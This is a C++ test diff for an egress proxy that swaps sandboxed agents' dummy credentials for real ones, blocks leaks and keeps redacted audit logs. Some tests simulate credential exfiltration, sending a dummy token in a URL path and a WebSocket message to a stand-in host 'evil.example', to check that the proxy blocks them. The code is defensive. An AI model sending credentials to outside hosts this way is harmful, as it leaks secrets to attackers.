@@ -11,6 +11,7 @@
 #include <string>
 #include <vector>
 
+#include "bottle/egress/egress_audit.hpp"
 #include "bottle/egress/egress_config.hpp"
 #include "net_harness.hpp"
 
@@ -324,4 +325,206 @@ except (OSError, ssl.SSLError):
       run({"python3", "-c", client, std::to_string(egress.port()), egress.ca().string(), "evil.example"});
   CHECK(match.out == "answered\n");
   CHECK(egress.upstream_header("/sni-mismatch", "Host") == "evil.example");
+}
+
+TEST_CASE("bottle-egress --confdir: one audit record per request, no dummy or real value in it", "[native-egress]") {
+  TempDir conf;
+  write_file(conf.path() / "audit.json", bottle::render_egress_audit_config("demo", 1 << 20));
+  NativeEgress egress(true, {"--confdir", conf.path().string()});
+
+  // The real value in the path and the dummy in a blocked path: both redacted.
+  CHECK(egress.curl("https://chatgpt.com/models/" + codex_real + "?key=secret", {"-H", bearer}).status == 200);
+  CHECK(egress.curl("https://evil.example/leak/" + codex_dummy, {"-H", bearer}).status == 403);
+  CHECK(egress.curl("https://evil.example/clean").status == 200);
+
+  const fs::path log = conf.path() / "audit.jsonl";
+  REQUIRE(wait_until([&] { return bottle::parse_audit_lines(read_file(log), "audit").records.size() == 3; }, 10s));
+  const std::string text = read_file(log);
+  CHECK_FALSE(contains(text, codex_dummy));
+  CHECK_FALSE(contains(text, codex_real));
+  CHECK_FALSE(contains(text, "secret"));
+  CHECK(fs::status(log).permissions() == (fs::perms::owner_read | fs::perms::owner_write));
+  const auto records = bottle::parse_audit_lines(text, "audit").records;
+  REQUIRE(records.size() == 3);
+
+  const bottle::AuditRecord& swapped = records[0];
+  CHECK(swapped.bottle == "demo");
+  CHECK(swapped.action == "injected");
+  CHECK(swapped.reason == "credential swapped");
+  CHECK(swapped.route == "codex");
+  CHECK(swapped.method == "GET");
+  CHECK(swapped.host == "chatgpt.com");
+  CHECK(swapped.port == 443);
+  CHECK(swapped.path == "/models/[redacted]");
+  CHECK(swapped.status == 200);
+  CHECK(swapped.bytes_up == 0);
+  CHECK(swapped.bytes_down > 0);
+
+  const bottle::AuditRecord& blocked = records[1];
+  CHECK(blocked.action == "blocked");
+  CHECK(blocked.reason == "dummy sent to unbound host");
+  CHECK(blocked.route == "codex");
+  CHECK(blocked.host == "evil.example");
+  CHECK(blocked.path == "/leak/[redacted]");
+  CHECK(blocked.status == 403);
+
+  const bottle::AuditRecord& clean = records[2];
+  CHECK(clean.action == "tunneled");
+  CHECK(clean.reason == "forwarded unchanged");
+  CHECK(clean.route.empty());
+  CHECK(clean.status == 200);
+}
+
+TEST_CASE("bottle-egress --confdir: a refused upstream and a refused CONNECT are recorded", "[native-egress]") {
+  TempDir conf;
+  write_file(conf.path() / "audit.json", bottle::render_egress_audit_config("demo", 1 << 20));
+  NativeEgress egress(false, {"--confdir", conf.path().string()});
+  CHECK(egress.curl("https://chatgpt.com/untrusted", {"-H", bearer}).status == 502);
+  const auto connect =
+      egress.raw_exchange("CONNECT chatgpt.com:443 HTTP/1.1\r\nHost: chatgpt.com:443\r\n" + bearer + "\r\n\r\n");
+  CHECK(connect.starts_with("HTTP/1.1 403 "));
+
+  const fs::path log = conf.path() / "audit.jsonl";
+  REQUIRE(wait_until([&] { return bottle::parse_audit_lines(read_file(log), "audit").records.size() == 2; }, 10s));
+  const auto records = bottle::parse_audit_lines(read_file(log), "audit").records;
+  REQUIRE(records.size() == 2);
+  CHECK(records[0].action == "refused");
+  CHECK(records[0].status == 0);
+  CHECK(contains(records[0].reason, "certificate verify failed"));
+  CHECK(records[0].route == "codex");
+  CHECK(records[1].action == "blocked");
+  CHECK(records[1].reason == "dummy in CONNECT");
+  CHECK(records[1].method == "CONNECT");
+  CHECK(records[1].path.empty());
+  CHECK(records[1].status == 403);
+  CHECK_FALSE(contains(read_file(log), codex_dummy));
+  CHECK_FALSE(contains(read_file(log), codex_real));
+}
+
+TEST_CASE("bottle-egress --confdir: a bad audit.json stops egress before it listens", "[native-egress]") {
+  TempDir conf;
+  write_file(conf.path() / "audit.json", R"({"version": 2, "bottle": "demo", "log": "audit.jsonl", "max_bytes": 10})");
+  TempDir files;
+  write_file(files.path() / "routes.json", R"({"version": 1, "routes": []})");
+  write_file(files.path() / "ca.pem", "");
+  const auto r = run({test_paths::bottle_egress, "--listen", "127.0.0.1:1", "--ca", (files.path() / "ca.pem").string(),
+                      "--routes", (files.path() / "routes.json").string(), "--confdir", conf.path().string()});
+  CHECK_FALSE(r.ok());
+  CHECK(contains(r.err, "--confdir " + conf.path().string()));
+  CHECK(contains(r.err, "must be 1"));
+  CHECK_FALSE(contains(r.out, "ready"));
+}
+
+namespace {
+
+// A WebSocket client through egress: CONNECT, TLS, the upgrade (asking for
+// permessage-deflate, which egress must strip), the first frame, then each message
+// sent and its echo read. Prints {"status", "extensions", "frames", "closed"}.
+const std::string ws_client = R"(
+import json, os, socket, ssl, sys
+port, ca, host, path, auth = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5]
+sock = socket.create_connection(("127.0.0.1", port), timeout=10)
+sock.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
+reply = b""
+while b"\r\n\r\n" not in reply: reply += sock.recv(1)
+tls = ssl.create_default_context(cafile=ca).wrap_socket(sock, server_hostname=host)
+extra = f"Authorization: {auth}\r\n" if auth else ""
+tls.sendall((f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+             f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
+             f"Sec-WebSocket-Extensions: permessage-deflate\r\n{extra}\r\n").encode())
+head = b""
+while b"\r\n\r\n" not in head: head += tls.recv(1)
+out = {"status": head.split(b"\r\n")[0].decode(), "extensions": b"sec-websocket-extensions" in head.lower(),
+       "frames": [], "closed": False}
+def exactly(n):
+    data = b""
+    while len(data) < n:
+        more = tls.recv(n - len(data))
+        if not more: raise EOFError
+        data += more
+    return data
+def frame():
+    h = exactly(2)
+    n = h[1] & 0x7F
+    if n == 126: n = int.from_bytes(exactly(2), "big")
+    return exactly(n).decode()
+try:
+    out["frames"].append(frame())
+    for m in sys.argv[6:]:
+        data, mask = m.encode(), os.urandom(4)
+        tls.sendall(bytes([0x81, 0x80 | len(data)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))
+        out["frames"].append(frame())
+except (EOFError, OSError):
+    out["closed"] = True
+print(json.dumps(out))
+)";
+
+struct WsResult {
+  std::string status;
+  bool extensions = false;
+  std::vector<std::string> frames;
+  bool closed = false;
+};
+
+WsResult ws(const NativeEgress& egress, const std::string& host, const std::string& path, const std::string& auth,
+            const std::vector<std::string>& messages) {
+  std::vector<std::string> argv = {"python3", "-c", ws_client, std::to_string(egress.port()), egress.ca().string(),
+                                   host,      path, auth};
+  argv.insert(argv.end(), messages.begin(), messages.end());
+  const auto r = run(argv);
+  INFO("ws client stderr: " << r.err);
+  REQUIRE(r.ok());
+  const auto o = boost::json::parse(r.out).as_object();
+  WsResult result{.status = std::string(o.at("status").as_string()),
+                  .extensions = o.at("extensions").as_bool(),
+                  .closed = o.at("closed").as_bool()};
+  for (const auto& f : o.at("frames").as_array()) result.frames.emplace_back(f.as_string());
+  return result;
+}
+
+}  // namespace
+
+TEST_CASE("bottle-egress WebSocket: the upgrade is swapped, frames relay both ways, answers are reverse-swapped",
+          "[native-egress]") {
+  NativeEgress egress;
+  const auto echo = ws(egress, "chatgpt.com", "/ws-echo", "Bearer " + codex_dummy, {"one", "two"});
+  CHECK(echo.status == "HTTP/1.1 101 Switching Protocols");
+  CHECK(echo.frames == std::vector<std::string>{"hello", "one", "two"});
+  CHECK_FALSE(echo.closed);
+  CHECK_FALSE(echo.extensions);
+  CHECK(egress.upstream_header("/ws-echo", "Authorization") == "Bearer " + codex_real);
+  CHECK(egress.upstream_header("/ws-echo", "Sec-WebSocket-Extensions") == "<none>");
+
+  // The upstream's first message quotes the real value: the agent reads its dummy.
+  const auto reflected = ws(egress, "chatgpt.com", "/reflect/ws", "Bearer " + codex_dummy, {});
+  REQUIRE(reflected.frames.size() == 1);
+  CHECK(reflected.frames[0] == "you sent: Bearer " + codex_dummy);
+
+  // A dummy in a message to the host it is bound to is harmless (the addon's rule).
+  const auto bound = ws(egress, "chatgpt.com", "/ws-echo", "", {"x " + codex_dummy});
+  CHECK(bound.frames == std::vector<std::string>{"hello", "x " + codex_dummy});
+}
+
+TEST_CASE("bottle-egress WebSocket: a dummy in a client message to another host closes the connection",
+          "[native-egress]") {
+  TempDir conf;
+  write_file(conf.path() / "audit.json", bottle::render_egress_audit_config("demo", 1 << 20));
+  NativeEgress egress(true, {"--confdir", conf.path().string()});
+  const auto leak = ws(egress, "evil.example", "/ws-echo", "", {"fine", "token " + codex_dummy, "after"});
+  CHECK(leak.status == "HTTP/1.1 101 Switching Protocols");
+  CHECK(leak.frames == std::vector<std::string>{"hello", "fine"});  // no echo: the message never went upstream
+  CHECK(leak.closed);
+
+  const fs::path log = conf.path() / "audit.jsonl";
+  REQUIRE(wait_until([&] { return !bottle::parse_audit_lines(read_file(log), "audit").records.empty(); }, 10s));
+  const auto records = bottle::parse_audit_lines(read_file(log), "audit").records;
+  REQUIRE(records.size() == 1);
+  CHECK(records[0].action == "blocked");
+  CHECK(records[0].reason == "dummy in a websocket message to unbound host");
+  CHECK(records[0].route == "codex");
+  CHECK(records[0].host == "evil.example");
+  CHECK(records[0].status == 101);
+  CHECK_FALSE(contains(read_file(log), codex_dummy));
+  CHECK(contains(read_file(egress.log()), "dummy in a websocket message to unbound host"));
+  CHECK_FALSE(contains(read_file(egress.log()), codex_dummy));
 }
